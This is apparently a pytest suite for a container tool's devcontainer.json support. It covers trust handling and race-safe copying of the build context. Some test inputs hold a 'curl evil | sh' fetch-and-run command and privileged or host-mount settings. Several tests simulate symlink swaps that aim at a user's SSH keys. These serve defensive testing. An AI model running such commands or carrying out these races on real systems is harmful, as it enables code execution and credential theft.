"""devcontainer.json support (SPEC section 18): real-world shapes, read through the
adapter from a temporary workspace, interpreted, and split by trust (section 14)."""

from __future__ import annotations

import errno
import hashlib
import os
import shutil
from pathlib import Path
from typing import Any

import pytest

from containai.adapters import devcontainer_file as F
from containai.domain import devcontainer as D
from containai.domain import settings, trust
from containai.domain.devcontainer_vars import devcontainer_id, env_from_list
from containai.domain.errors import ConfigError

DATA = Path(__file__).parent / "data" / "devcontainer"
SH = D.SHELL


def workspace_with(tmp_path: Path, fixture: str, *, dockerfile: bool = True) -> Path:
    ws = tmp_path / "myproj"
    (ws / ".devcontainer").mkdir(parents=True)
    shutil.copy(DATA / fixture, ws / ".devcontainer" / "devcontainer.json")
    if dockerfile:
        shutil.copy(DATA / "Dockerfile", ws / ".devcontainer" / "Dockerfile")
    return ws


def load(ws: Path) -> D.Loaded:
    loaded = F.load(str(ws))
    assert loaded is not None
    return loaded


def warned(spec: D.Devcontainer, *fragments: str) -> list[str]:
    return [w for w in spec.warnings if all(f in w for f in fragments)]


def one_line(spec: D.Devcontainer) -> None:
    for w in spec.warnings:
        assert "\n" not in w and w.startswith(spec.source + ": ")


# ---------------------------------------------------------------- real-world shapes
def test_image_only_template(tmp_path: Path) -> None:
    ws = workspace_with(tmp_path, "image-only.jsonc", dockerfile=False)
    loaded = load(ws)
    spec = loaded.spec
    assert loaded.path == str(ws / ".devcontainer" / "devcontainer.json")
    assert spec.image == "mcr.microsoft.com/devcontainers/python:1-3.12-bookworm"
    assert spec.build is None and loaded.dockerfile is None
    assert spec.post_create == [[SH, "-c", "pip3 install --user -r requirements.txt"]]
    assert spec.post_start == [] and spec.forward_ports == []
    assert spec.warnings == []  # customizations and comments are nothing to warn about
    # no build: the digest is the file's own SHA-256 (what `sha256sum` prints)
    data = (ws / ".devcontainer" / "devcontainer.json").read_bytes()
    assert loaded.digest == hashlib.sha256(data).hexdigest()


def test_dockerfile_with_args_and_context_parent(tmp_path: Path) -> None:
    ws = workspace_with(tmp_path, "dockerfile-args.jsonc")
    loaded = load(ws)
    spec = loaded.spec
    assert spec.image is None
    assert spec.build == D.Build(
        dockerfile=str(ws / ".devcontainer" / "Dockerfile"),
        context=str(ws),
        args={"VARIANT": "20-bookworm", "NPM_GLOBAL": "typescript@5"},
        target="dev",
    )
    assert loaded.dockerfile == (DATA / "Dockerfile").read_bytes()
    assert spec.container_env == {"NODE_ENV": "development"}
    assert spec.forward_ports == [3000, 9229]
    assert spec.post_create == [[SH, "-c", "npm ci"]]
    assert len(warned(spec, "features", "not applied", "github-cli")) == 1
    assert len(warned(spec, "remoteUser", "not applied")) == 1
    assert not warned(spec, "portsAttributes")
    one_line(spec)


def test_lifecycle_commands_in_all_three_forms(tmp_path: Path) -> None:
    spec = load(workspace_with(tmp_path, "lifecycle-forms.jsonc", dockerfile=False)).spec
    assert spec.post_create == [
        [SH, "-c", "pip install -e '.[dev]' && pre-commit install"],
        ["git", "config", "--local", "core.autocrlf", "input"],
    ]
    assert spec.post_start == [["bash", "-lc", "make serve-docs > /tmp/docs.log 2>&1 &"]]
    assert len(warned(spec, "onCreateCommand", "postCreateCommand and postStartCommand")) == 1
    assert len(warned(spec, "postAttachCommand", "not applied")) == 1
    assert not warned(spec, "waitFor")


def test_legacy_top_level_dockerfile_and_ptrace_run_args(tmp_path: Path) -> None:
    ws = workspace_with(tmp_path, "legacy-dockerfile.jsonc")
    spec = load(ws).spec
    assert spec.build is not None
    assert spec.build.dockerfile == str(ws / ".devcontainer" / "Dockerfile")
    assert spec.build.context == str(ws)
    assert spec.build.args == {"VARIANT": "1.21"}
    (run_args,) = warned(spec, "runArgs")
    assert "--cap-add=SYS_PTRACE" in run_args and "not applied" in run_args
    assert warned(spec, "remoteUser")
    assert not warned(spec, "settings") and not warned(spec, "extensions")


def test_workspace_variables_and_local_env(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setenv("GITHUB_TOKEN", "ghp_host_secret")
    monkeypatch.setenv("HOME", "/home/someone")
    ws = workspace_with(tmp_path, "workspace-vars.jsonc", dockerfile=False)
    spec = load(ws).spec
    assert spec.container_env == {
        "CARGO_TARGET_DIR": f"{ws}/target",
        "PROJECT": "myproj",
        "GITHUB_TOKEN": "",  # never the host's value
        "LOG": "info",  # the default given in the file
    }
    # ${containerEnv:...} waits for the running container (phase two)
    assert spec.remote_env == {
        "PATH": f"${{containerEnv:PATH}}:{ws}/bin",
        "EDITOR": "${containerEnv:EDITOR:vi}",
        "OLD": None,
    }
    assert spec.post_create == [
        [SH, "-c", f"cargo fetch --manifest-path {ws}/Cargo.toml && echo ${{HOME}}"]
    ]
    assert warned(spec, "${localEnv:GITHUB_TOKEN}", "cai run -e GITHUB_TOKEN=VALUE")
    assert warned(spec, "${localEnv:RUST_LOG}", "default 'info'")
    assert warned(spec, "workspaceMount") and warned(spec, "workspaceFolder")
    assert warned(spec, "mounts", "not applied")
    assert "ghp_host_secret" not in repr(spec) and "/home/someone" not in repr(spec)
    running = D.in_container(spec, env_from_list(["PATH=/usr/local/bin:/usr/bin", "X=a=b"]))
    assert running.remote_env == {
        "PATH": f"/usr/local/bin:/usr/bin:{ws}/bin",
        "EDITOR": "vi",
        "OLD": None,
    }


def test_compose_is_not_supported_but_the_rest_applies(tmp_path: Path) -> None:
    spec = load(workspace_with(tmp_path, "compose.jsonc", dockerfile=False)).spec
    assert spec.image is None and spec.build is None
    assert warned(spec, "dockerComposeFile", "Docker Compose is not supported")
    assert spec.forward_ports == [8000]
    assert warned(spec, "forwardPorts 'db:5432' not applied")
    assert spec.post_create == [["python", "manage.py", "migrate"]]


def test_the_issue_acceptance_shape(tmp_path: Path) -> None:
    ws = workspace_with(tmp_path, "checked-by.jsonc")
    loaded = load(ws)
    spec = D.applicable(loaded.spec, trusted=False)
    assert spec.container_env == {"DEVC_PROBE": "from-devcontainer"}
    assert spec.post_create == [[SH, "-c", "echo created > /tmp/devc-created"]]
    assert spec.forward_ports == [8765]
    assert warned(spec, 'runArgs ["--privileged"] not applied')
    assert spec.build is None and warned(spec, "build not applied", "cai trust")
    trusted = D.applicable(loaded.spec, trusted=True)
    assert trusted.build is not None and trusted.build.dockerfile.endswith("/Dockerfile")


def test_comments_and_trailing_commas() -> None:
    text = b'{\n // line\n "image": "debian:12", /* block */\n "forwardPorts": [1, 2,],\n}\n'
    assert F.parse("/w/.devcontainer.json", text) == {"image": "debian:12", "forwardPorts": [1, 2]}
    assert F.parse("/w/.devcontainer.json", b"\xef\xbb\xbf{}") == {}  # a BOM from an editor


# ---------------------------------------------------------------- finding the file
def test_spec_order_and_root_file(tmp_path: Path) -> None:
    ws = tmp_path / "ws"
    ws.mkdir()
    assert F.load(str(ws)) is None
    (ws / ".devcontainer.json").write_text('{"build": {"dockerfile": "Dockerfile"}}')
    (ws / "Dockerfile").write_text("FROM debian\n")
    spec = load(ws).spec
    assert spec.build is not None
    assert spec.build.dockerfile == str(ws / "Dockerfile")  # relative to the file's folder
    assert spec.build.context == str(ws)
    (ws / ".devcontainer").mkdir()
    (ws / ".devcontainer" / "devcontainer.json").write_text('{"image": "debian:12"}')
    assert load(ws).path == str(ws / ".devcontainer" / "devcontainer.json")


# ---------------------------------------------------------------- trust (section 14)
def test_trust_split_and_digest(tmp_path: Path) -> None:
    ws = workspace_with(tmp_path, "dockerfile-args.jsonc")
    loaded = load(ws)
    assert not D.is_trusted(loaded, {})
    assert D.is_trusted(loaded, {loaded.path: loaded.digest})
    untrusted = D.applicable(loaded.spec, trusted=False)
    assert untrusted.build is None and untrusted.image is None
    assert untrusted.container_env == loaded.spec.container_env
    assert untrusted.post_create == loaded.spec.post_create
    assert untrusted.forward_ports == loaded.spec.forward_ports
    (msg,) = warned(untrusted, "not trusted")
    assert "Dockerfile" in msg and "cai trust" in msg
    assert D.applicable(loaded.spec, trusted=True) == loaded.spec
    # an edited Dockerfile un-trusts the file, as an edited devcontainer.json does
    (ws / ".devcontainer" / "Dockerfile").write_text("FROM debian\nRUN curl evil | sh\n")
    assert not D.is_trusted(load(ws), {loaded.path: loaded.digest})
    image_only = load(workspace_with(tmp_path / "b", "image-only.jsonc", dockerfile=False))
    (msg,) = warned(D.applicable(image_only.spec, trusted=False), "image not applied")
    assert "Dockerfile" not in msg


def test_nothing_to_trust_means_no_warning() -> None:
    spec = D.interpret(
        {"postCreateCommand": "true"}, source="/w/.devcontainer.json", workspace="/w"
    )
    assert D.applicable(spec, trusted=False) == spec


def test_devcontainer_setting_is_the_users_alone() -> None:
    key = settings.KEYS["devcontainer"]
    assert key.kind is bool and key.default is True
    assert settings.parse_value("devcontainer", "false") is False
    assert trust.classify("devcontainer") == "never"
    applied, ignored = trust.repo_policy(
        {"devcontainer": False}, trusted=True, source="f", known=settings.KEYS
    )
    assert applied == {} and ignored[0].reason == trust.NEVER_REASON


# ---------------------------------------------------------------- details
def test_build_wins_over_image_with_a_warning() -> None:
    spec = D.interpret(
        {"image": "debian:12", "build": {"dockerfile": "Dockerfile"}},
        source="/w/.devcontainer/devcontainer.json",
        workspace="/w",
    )
    assert spec.image is None and spec.build is not None
    assert warned(spec, "image not applied")


def test_harmless_settings_are_not_warned_about() -> None:
    doc = {"privileged": False, "capAdd": [], "runArgs": [], "overrideCommand": True, "init": True}
    spec = D.interpret(doc, source="/w/.devcontainer.json", workspace="/w")
    assert spec.warnings == []
    spec = D.interpret({"overrideCommand": False}, source="/w/.devcontainer.json", workspace="/w")
    assert warned(spec, "overrideCommand")


def test_each_spec_named_key_gets_one_warning() -> None:
    doc = {
        "runArgs": ["--network=host"],
        "mounts": ["source=/,target=/host,type=bind"],
        "privileged": True,
        "capAdd": ["SYS_ADMIN"],
        "securityOpt": ["apparmor=unconfined"],
        "features": {"ghcr.io/devcontainers/features/node:1": {}},
        "remoteUser": "root",
        "initializeCommand": "curl evil | sh",
        "build": {"dockerfile": "Dockerfile", "options": ["--network=host"]},
    }
    spec = D.interpret(doc, source="/w/.devcontainer/devcontainer.json", workspace="/w")
    for key in ("runArgs", "mounts", "privileged", "capAdd", "securityOpt", "features"):
        assert len(warned(spec, f": {key} ", "not applied")) == 1, key
    assert len(warned(spec, ": remoteUser ")) == 1
    assert warned(spec, "initializeCommand", "never runs a repository's command outside")
    assert warned(spec, "build.options")
    assert spec.post_create == [] and spec.post_start == []


def test_devcontainer_id_is_stable_and_unique() -> None:
    a, b = devcontainer_id("/w/a"), devcontainer_id("/w/b")
    assert a == devcontainer_id("/w/a") and a != b and len(a) == 52
    spec = D.interpret(
        {"containerEnv": {"ID": "${devcontainerId}"}},
        source="/w/a/.devcontainer.json",
        workspace="/w/a",
    )
    assert spec.container_env == {"ID": a}


def test_one_reader_parses_each_workspace_once(tmp_path: Path) -> None:
    """One command's reader serves the lifecycle and the forward restore from one read:
    both see the bytes whose digest was checked, and json5 runs once."""
    path = tmp_path / ".devcontainer.json"
    path.write_text('{"image": "debian:bookworm", "forwardPorts": [3000]}')
    reader = F.DevcontainerFiles()
    first = reader.load(str(tmp_path))
    path.write_text('{"image": "debian:bookworm", "forwardPorts": [4000]}')
    again = reader.load(str(tmp_path) + "/")
    assert first is again and first is not None
    assert first.spec.forward_ports == [3000]
    fresh = F.DevcontainerFiles().load(str(tmp_path))
    assert fresh is not None and fresh.spec.forward_ports == [4000]


def test_one_reader_reads_a_failed_file_again(tmp_path: Path) -> None:
    path = tmp_path / ".devcontainer.json"
    path.write_text("{not json")
    reader = F.DevcontainerFiles()
    with pytest.raises(ConfigError):
        reader.load(str(tmp_path))
    path.write_text('{"image": "debian:bookworm"}')
    assert reader.load(str(tmp_path)) is not None


def test_build_context_snapshot_copies_links_as_links(tmp_path: Path) -> None:
    ws = tmp_path / "ws"
    ctx = ws / ".devcontainer"
    (ctx / "sub").mkdir(parents=True)
    (ctx / "sub" / "a.txt").write_text("a")
    (ctx / ".dockerignore").write_text("sub/ignored\n")
    secret = tmp_path / "host-secret"
    secret.write_text("user's key")
    (ctx / "leak").symlink_to(secret)  # a link out stays a link: never its target's bytes
    os.mkfifo(ctx / "fifo")  # never opened (would block), left out
    out = F.snapshot_context(str(ws), str(ctx), tmp_path / "snap")
    assert out == tmp_path / "snap"
    assert (out / "sub" / "a.txt").read_text() == "a"
    assert (out / ".dockerignore").read_text() == "sub/ignored\n"
    assert os.readlink(out / "leak") == str(secret)
    assert not (out / "fifo").exists()
    assert not str(out).startswith(str(ws))


def _no_link(*_a: object, **_k: object) -> None:
    raise OSError(errno.EXDEV, "Invalid cross-device link")


def test_build_context_snapshot_copies_across_file_systems(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    ws = tmp_path / "ws"
    ws.mkdir()
    (ws / "f").write_bytes(b"x" * 10)
    monkeypatch.setattr(F.os, "link", _no_link)
    out = F.snapshot_context(str(ws), str(ws), tmp_path / "snap")
    assert (out / "f").read_bytes() == b"x" * 10
    assert not (out / "f").samefile(ws / "f")
    monkeypatch.setattr(F, "MAX_CONTEXT_COPY_BYTES", 5)
    with pytest.raises(ConfigError, match="over 0 GiB"):
        F.snapshot_context(str(ws), str(ws), tmp_path / "snap2")


def test_build_context_swapped_for_a_link_after_the_check_is_refused(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    """The race: cai's check saw a folder, then the agent made it a link to the user's
    files before the engine read it. The snapshot opens each component without
    following a link, so the swap is refused, never followed."""
    ws = tmp_path / "ws"
    (ws / "ctx").mkdir(parents=True)
    home = tmp_path / "home"
    home.mkdir()
    (home / "id_ed25519").write_text("private key")
    checked = str(ws / "ctx")
    monkeypatch.setattr(F, "_inside_real", lambda *_a: checked)  # what the check saw
    (ws / "ctx").rmdir()
    (ws / "ctx").symlink_to(home)  # the swap
    with pytest.raises(ConfigError, match="changed while cai read it"):
        F.snapshot_context(str(ws), str(ws / "ctx"), tmp_path / "snap")
    assert not (tmp_path / "snap" / "id_ed25519").exists()


def test_build_context_snapshot_never_writes_through_a_link_swapped_mid_walk(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    """The attacker swaps ctx/d for a link to the user's folder just as cai looks at it
    (cai copies a link), and back to a folder before the walk decides to enter it: the
    walk must not enter it, or cai would write d's files through the snapshot's link into
    the user's folder (a planted ~/.ssh/authorized_keys)."""
    ws = tmp_path / "ws"
    (ws / "d").mkdir(parents=True)
    (ws / "d" / "authorized_keys").write_text("attacker key")
    victim = tmp_path / "victim-ssh"
    victim.mkdir()
    real_stat, real_readlink = os.stat, os.readlink
    swapped: list[bool] = []

    def racing_stat(path: Any, *args: Any, **kwargs: Any) -> os.stat_result:
        if path == "d" and not swapped and kwargs.get("follow_symlinks") is False:
            swapped.append(True)
            shutil.move(str(ws / "d"), str(tmp_path / "d-aside"))
            (ws / "d").symlink_to(victim)  # cai sees the link
        return real_stat(path, *args, **kwargs)

    def racing_readlink(path: Any, *args: Any, **kwargs: Any) -> Any:
        target = real_readlink(path, *args, **kwargs)
        if path == "d" and swapped and not (tmp_path / "d-back").exists():
            (tmp_path / "d-back").touch()
            (ws / "d").unlink()
            shutil.move(str(tmp_path / "d-aside"), str(ws / "d"))  # fwalk sees a folder
        return target

    monkeypatch.setattr(os, "stat", racing_stat)
    monkeypatch.setattr(os, "readlink", racing_readlink)
    out = F.snapshot_context(str(ws), str(ws), tmp_path / "snap")
    assert swapped
    assert os.readlink(out / "d") == str(victim)
    assert list(victim.iterdir()) == []


def test_build_context_folder_swapped_for_a_fifo_is_left_out_not_waited_on(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    """cai saw a folder; by the time it opens it, it is a FIFO with no writer: opening
    it to read would block for ever (os.fwalk's open did)."""
    ws = tmp_path / "ws"
    (ws / "d").mkdir(parents=True)
    real_stat = os.stat

    def racing_stat(path: Any, *args: Any, **kwargs: Any) -> os.stat_result:
        result = real_stat(path, *args, **kwargs)
        if path == "d" and (ws / "d").is_dir():
            (ws / "d").rmdir()
            os.mkfifo(ws / "d")
        return result

    monkeypatch.setattr(os, "stat", racing_stat)
    out = F.snapshot_context(str(ws), str(ws), tmp_path / "snap")
    assert list(out.iterdir()) == []


def test_build_context_that_cannot_be_copied_is_one_line(tmp_path: Path) -> None:
    ws = tmp_path / "ws"
    ws.mkdir()
    fd = os.open(ws, os.O_RDONLY | os.O_DIRECTORY)
    for i in range(20):  # each name fits, the snapshot's whole path does not
        name = f"{i:02d}" + "x" * 240
        os.mkdir(name, dir_fd=fd)
        inner = os.open(name, os.O_RDONLY | os.O_DIRECTORY, dir_fd=fd)
        os.close(fd)
        fd = inner
    os.close(fd)
    with pytest.raises(ConfigError, match=r"cannot copy the build\.context"):
        F.snapshot_context(str(ws), str(ws), tmp_path / "snap")


def test_build_context_snapshot_stops_at_the_entry_cap(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    """A hostile context of millions of empty files, folders or links would make cai
    create as many entries under its state folder: every entry counts, the walk stops at
    the cap, and no partial snapshot is left."""
    ws = tmp_path / "ws"
    for i in range(4):  # 12 entries: 4 folders, 4 empty files, 4 links
        (ws / f"d{i}").mkdir(parents=True)
        (ws / f"d{i}" / "empty").touch()
        (ws / f"l{i}").symlink_to("nowhere")
    monkeypatch.setattr(F, "MAX_CONTEXT_ENTRIES", 12)
    out = F.snapshot_context(str(ws), str(ws), tmp_path / "snap")
    assert len(list(out.rglob("*"))) == 12
    monkeypatch.setattr(F, "MAX_CONTEXT_ENTRIES", 11)
    with pytest.raises(ConfigError) as caught:
        F.snapshot_context(str(ws), str(ws), tmp_path / "snap2")
    message = str(caught.value)
    assert "\n" not in message
    assert f"the build.context {ws} has over 11 entries" in message
    assert '"context"' in message  # the fix: narrow build.context
    assert not (tmp_path / "snap2").exists()


@pytest.mark.parametrize("linked", [True, False], ids=["hard-linked", "copied"])
def test_build_context_snapshot_entry_cap_counts_empty_files(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch, linked: bool
) -> None:
    """A hard-linked file copies no byte, nor does an empty one: the byte cap never sees
    them, the entry cap does, and stops the walk there (not after it)."""
    ws = tmp_path / "ws"
    (ws / "many").mkdir(parents=True)
    for i in range(50):
        (ws / "many" / f"f{i}").touch()
    made: list[str] = []
    real_link = os.link

    def counted_link(src: Any, dst: Any, **kwargs: Any) -> None:
        made.append(str(dst))
        if not linked:
            _no_link()
        real_link(src, dst, **kwargs)

    monkeypatch.setattr(F.os, "link", counted_link)
    monkeypatch.setattr(F, "MAX_CONTEXT_ENTRIES", 10)
    with pytest.raises(ConfigError, match="over 10 entries"):
        F.snapshot_context(str(ws), str(ws), tmp_path / "snap")
    assert len(made) <= 10
    assert not (tmp_path / "snap").exists()


def test_build_context_snapshot_of_a_wide_folder_is_whole_under_a_low_open_file_limit(
    tmp_path: Path,
) -> None:
    """The walk holds a descriptor per level, not one per folder waiting its turn: a
    folder with more subfolders than the open-file limit (a node_modules under the usual
    soft limit of 1024) is copied whole, never cut short in silence; a tree deeper than
    the limit is a one-line error, not a partial snapshot."""
    resource = pytest.importorskip("resource")
    if not os.path.isdir("/proc/self/fd"):
        pytest.skip("needs /proc/self/fd")
    open_fds = [int(fd) for fd in os.listdir("/proc/self/fd")]
    limit = max(open_fds) + 60  # the limit bounds a descriptor's number, not their count
    n = limit - len(open_fds) + 40  # more than the free descriptors
    wide = tmp_path / "wide"
    for i in range(n):
        (wide / f"d{i:04d}").mkdir(parents=True)
        (wide / f"d{i:04d}" / "f").touch()
    deep = tmp_path / "deep"
    (deep / "/".join(["d"] * n)).mkdir(parents=True)
    soft, hard = resource.getrlimit(resource.RLIMIT_NOFILE)
    resource.setrlimit(resource.RLIMIT_NOFILE, (limit, hard))
    try:
        out = F.snapshot_context(str(wide), str(wide), tmp_path / "snap")
        with pytest.raises(ConfigError, match=r"cannot copy the build\.context"):
            F.snapshot_context(str(deep), str(deep), tmp_path / "snap2")
    finally:
        resource.setrlimit(resource.RLIMIT_NOFILE, (soft, hard))
    assert len(list(out.glob("d*/f"))) == n
    assert not (tmp_path / "snap2").exists()


@pytest.mark.parametrize("entry", ["folder", "file"])
def test_build_context_entry_cai_cannot_open_for_want_of_descriptors_is_an_error(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch, entry: str
) -> None:
    """An entry that is gone or swapped is left out; one cai cannot open for want of
    descriptors (EMFILE) is an error: the build would run on part of its context."""
    ws = tmp_path / "ws"
    ws.mkdir()
    if entry == "folder":
        (ws / "e").mkdir()
    else:
        (ws / "e").write_text("x")
        monkeypatch.setattr(F.os, "link", _no_link)  # copied, so opened
    real_open = os.open

    def no_descriptor(path: Any, *args: Any, **kwargs: Any) -> int:
        if path == "e":
            raise OSError(errno.EMFILE, "Too many open files")
        return real_open(path, *args, **kwargs)

    monkeypatch.setattr(F.os, "open", no_descriptor)
    with pytest.raises(ConfigError, match="Too many open files"):
        F.snapshot_context(str(ws), str(ws), tmp_path / "snap")
    assert not (tmp_path / "snap").exists()
